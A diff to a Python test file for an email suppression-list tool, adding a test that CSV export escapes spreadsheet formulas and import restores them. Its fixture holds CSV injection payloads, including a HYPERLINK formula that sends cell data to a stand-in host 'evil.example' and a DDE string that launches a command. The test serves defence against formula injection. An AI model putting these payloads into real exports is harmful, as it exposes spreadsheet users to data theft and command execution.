@@ -98,3 +98,51 @@ async def test_bounces_test_against_a_closed_port_fails_clearly(tmp_path: Path) 
     rc, out, _ = await run_cli("bounces", "test", "-c", cfg)
     assert rc == 69
     assert out.startswith("FAIL 127.0.0.1:1 (none): cannot connect")
+
+
+#: (address, scope, reason) a spreadsheet would run as formulas, and quotes that must survive
+FORMULAS = [
+    ("=cmd@example.org", "", '=HYPERLINK("http://evil.example/?"&A1,"click")'),
+    ("+1@example.org", "=news", "+1+1"),
+    ("-x@example.org", "@b", "-2+3"),
+    ("'=q@example.org", "", "@SUM(1+1)*cmd|' /C calc'!A0"),
+    ("plain@example.org", "+c", "'=already quoted"),
+    ("quote@example.org", "", "'just a quote"),
+    ("two@example.org", "", "''=two quotes"),
+]
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def assert_neutralized(table: list[list[str]]) -> None:
+    """No cell of an exported table starts with what a spreadsheet runs."""
+    for row in table:
+        for cell in row:
+            assert not cell.startswith(FORMULA_START), (cell, row)
+
+
+async def test_export_neutralizes_formulas_and_import_restores_them(tmp_path: Path) -> None:
+    cfg = str(config(tmp_path))
+    async with await Spool.open(tmp_path / "spool.sqlite3") as spool:
+        for address, scope, reason in FORMULAS:
+            await spool.suppressions.add(
+                address, scope=scope, reason=reason, expires_at=4102444800.0
+            )
+        before = await spool.suppressions.page()
+    assert len(before) == len(FORMULAS)
+
+    exported = tmp_path / "out.csv"
+    rc, out, err = await run_cli("suppression", "export", str(exported), "-c", cfg)
+    assert rc == 0 and f"exported {len(FORMULAS)} entries" in out, err
+    table = list(csv.reader(io.StringIO(exported.read_text())))
+    assert len(table) == len(FORMULAS) + 1
+    assert_neutralized(table)
+    assert ["'=cmd@example.org", "", "manual"] in [r[:3] for r in table]
+    assert ["''=q@example.org", "", "manual"] in [r[:3] for r in table]
+
+    other = tmp_path / "other"
+    rc, _, err = await run_cli("suppression", "import", str(exported), "-c", str(config(other)))
+    assert rc == 0, err
+    async with await Spool.open(other / "spool.sqlite3") as spool:
+        after = await spool.suppressions.page()
+    kept = [(e.address, e.scope, e.reason, int(e.created_at), e.expires_at) for e in after]
+    assert kept == [(e.address, e.scope, e.reason, int(e.created_at), e.expires_at) for e in before]
